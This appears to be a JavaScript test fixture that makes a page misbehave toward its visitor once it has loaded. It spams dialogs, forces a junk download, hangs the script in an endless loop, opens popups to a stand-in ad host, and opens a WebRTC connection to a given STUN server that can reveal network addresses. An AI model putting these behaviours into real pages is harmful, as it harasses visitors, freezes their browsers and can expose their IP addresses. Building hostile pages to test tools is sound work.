// What a page does to its visitor's browser, some time after it has loaded.
"use strict";

const MISCHIEF = {
  alerts: () => {
    alert("You have won an image.");
    confirm("Do you really not want it?");
  },
  download: () => {
    const link = document.createElement("a");
    link.href = URL.createObjectURL(new Blob([new Uint8Array(5_000_000)]));
    link.download = "surprise.bin";
    document.body.append(link);
    link.click();
  },
  hang_script: () => {
    while (true);
  },
  popups: () => {
    for (let number = 0; number < 3; number++) window.open(`https://ads-0.test/popup/${number}`);
    addEventListener("click", () => window.open("https://ads-0.test/popup/clicked"));
  },
  webrtc: ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    connection.createDataChannel("trap");
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
};

const mischief = (options) =>
  addEventListener("load", () =>
    setTimeout(() => options.modes.forEach((mode) => MISCHIEF[mode](options)), options.delay),
  );
